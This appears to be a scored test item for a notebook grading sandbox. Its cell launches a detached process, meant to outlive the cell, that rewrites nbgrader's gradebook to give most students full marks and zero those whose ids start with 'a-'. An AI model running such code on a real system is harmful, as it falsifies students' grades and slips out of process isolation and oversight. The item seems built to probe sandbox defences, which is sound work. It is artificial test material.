"""
family = "writing what is the class's"
tries = "Gives everybody the marks it wants through nbgrader's own API, in a process that outlives its cell."
points = 3
"""

# %% own
import subprocess
import sys

script = """
import os, sys, time
from nbgrader.api import Gradebook

for wait in (0, 3):
    time.sleep(wait)
    if os.path.exists("@CLASS@/gradebook.db"):
        with Gradebook("sqlite:///@CLASS@/gradebook.db") as gradebook:
            for submission in gradebook.db.query(__import__("nbgrader.api").api.Grade).all():
                submission.manual_score = 0.0 if submission.student.id.startswith("a-") else submission.max_score
            gradebook.db.commit()
        print(chr(0x2620), "the gradebook", flush=True)
"""
subprocess.Popen([sys.executable, "-c", script], start_new_session=True)
print(subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=9).stdout)
